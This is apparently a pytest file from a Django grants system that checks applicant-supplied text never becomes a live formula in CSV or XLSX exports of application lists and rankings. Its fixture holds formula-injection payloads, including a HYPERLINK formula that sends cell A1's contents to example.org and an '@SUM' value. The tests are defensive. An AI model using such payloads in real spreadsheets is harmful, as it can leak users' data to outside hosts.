"""Whatever applicants type, no file made of it holds a formula: lists, rankings and dossiers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kernel.spreadsheets.writing import RISKY
from tests.factories.grants.applications import InReviewFactory
from tests.factories.grants.calls import staff
from tests.factories.grants.reviews import CallInReviewFactory, reviewed
from tests.factories.organizations import OrganizationFactory
from tests.source import ROOT, product

EVIL = '=HYPERLINK("http://example.org/"&A1;"Apasă")'


@pytest.fixture
def application(db):
    organization = OrganizationFactory(name_ro="@SUM(A1:A9)", name="@SUM(A1:A9)")
    made = InReviewFactory(call=CallInReviewFactory(), organization=organization, title=EVIL, summary=f"+{EVIL}")
    reviewed(made, "4", "3")
    return made


def _body(answer):
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_list_holds_no_formula(application, login, form):
    answer = login(staff(application.call.programme)).get(reverse("grants:applications"), {"format": form})
    _holds_none(_body(answer), form)


def test_a_ranking_holds_no_formula(application, login):
    there = reverse("grants:ranking", args=[application.call.reference])
    _holds_none(_body(login(staff(application.call.programme)).get(there, {"format": "xlsx"})), "xlsx")


def _holds_none(content, form):
    if form == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(RISKY)] == []
        assert any(EVIL in cell for cell in cells)
        return
    cells = [cell for page in load_workbook(io.BytesIO(content)) for row in page.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert EVIL in [cell.value for cell in cells]


def test_tables_are_written_in_one_place():
    """Another writer would have to guard its cells itself. The manifest of an archive holds no text of people."""
    writers = {path for path in product() if "csv.writer(" in path.read_text("utf-8")}
    assert {path.relative_to(ROOT).as_posix() for path in writers} == {
        "kernel/spreadsheets/writing.py",
        "kernel/zipping.py",
    }
